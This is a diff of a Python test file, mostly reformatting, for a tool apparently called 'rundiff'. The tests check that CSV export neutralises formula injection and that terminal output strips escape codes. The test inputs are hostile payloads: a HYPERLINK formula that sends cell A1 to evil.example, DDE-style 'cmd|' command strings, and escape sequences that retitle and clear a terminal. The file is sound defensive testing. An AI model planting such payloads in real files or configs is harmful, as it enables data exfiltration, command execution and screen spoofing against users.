@@ -24,8 +24,7 @@ ESC = "\x1b"
 def cli(*args, cwd=None):
     """The real console entry in a subprocess: bytes in and out, as a user's shell sees them."""
     env = {**os.environ, "PYTHONPATH": str(ROOT / "src"), "RUNDIFF_NO_CONFIG": "1"}
-    return subprocess.run([sys.executable, "-m", "rundiff", *args], cwd=cwd, env=env, capture_output=True,
-                          timeout=60)
+    return subprocess.run([sys.executable, "-m", "rundiff", *args], cwd=cwd, env=env, capture_output=True, timeout=60)
 
 
 def test_helpers_neutralise_each_kind_of_hostile_text():
@@ -36,8 +35,15 @@ def test_helpers_neutralise_each_kind_of_hostile_text():
     assert markdown_text("network_dim") == "network_dim"  # intraword underscores stay readable
     assert markdown_text("# not a heading") == "\\# not a heading"
     assert markdown_text("-5") == "-5"
-    assert [csv_cell(v) for v in ("=1+1", "+cmd", "-x", "@SUM(1)", "-0.5", "1e-4", "ok")] == \
-        ["'=1+1", "'+cmd", "'-x", "'@SUM(1)", "-0.5", "1e-4", "ok"]
+    assert [csv_cell(v) for v in ("=1+1", "+cmd", "-x", "@SUM(1)", "-0.5", "1e-4", "ok")] == [
+        "'=1+1",
+        "'+cmd",
+        "'-x",
+        "'@SUM(1)",
+        "-0.5",
+        "1e-4",
+        "ok",
+    ]
 
 
 def test_c19_conflicting_launches_render_to_html_and_markdown(tmp_path):
@@ -126,10 +132,11 @@ def test_i01_csv_cells_cannot_be_formulas(tmp_path):
     run = tmp_path / "run"
     run.mkdir()
     (run / "config.toml").write_text(
-        'learning_rate = 1e-4\nnetwork_dim = 8\nmax_train_steps = 100\n'
+        "learning_rate = 1e-4\nnetwork_dim = 8\nmax_train_steps = 100\n"
         'output_name = "=HYPERLINK(\\"http://evil.example/?x=\\"&A1,\\"click\\")"\n'
         "training_comment = \"@SUM(1+1)*cmd|' /C calc'!A0\"\n\"=cmd|'/C calc'!A0\" = 1\n"
-        'vae = "a\\r=1+1"\nmin_snr_gamma = -5\n')
+        'vae = "a\\r=1+1"\nmin_snr_gamma = -5\n'
+    )
     result = runner.invoke(app, ["compare", str(run), "--format", "csv", "--no-diagnose"])
     assert result.exit_code == 0, result.output
     import csv
@@ -137,15 +144,17 @@ def test_i01_csv_cells_cannot_be_formulas(tmp_path):
 
     cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
     assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c[1:2].isdigit())]
-    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")" in cells
+    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in cells
 
 
 def test_i02_escape_codes_from_a_config_never_reach_the_terminal(tmp_path):
     """I02: output_name holding OSC/CSI sequences retitled and cleared the terminal."""
     run = tmp_path / "run"
     run.mkdir()
-    (run / "config.toml").write_text('learning_rate = 1e-4\nnetwork_dim = 8\n'
-                                     'output_name = "\\u001b]0;PWNED\\u0007\\u001b[2J\\u001b[31mFAKE\\u001b[0m"\n')
+    (run / "config.toml").write_text(
+        "learning_rate = 1e-4\nnetwork_dim = 8\n"
+        'output_name = "\\u001b]0;PWNED\\u0007\\u001b[2J\\u001b[31mFAKE\\u001b[0m"\n'
+    )
     for args in ([], ["--format", "text"], ["--format", "md"]):
         result = cli("compare", str(run), "--all", "--no-diagnose", *args)
         assert result.returncode == 0
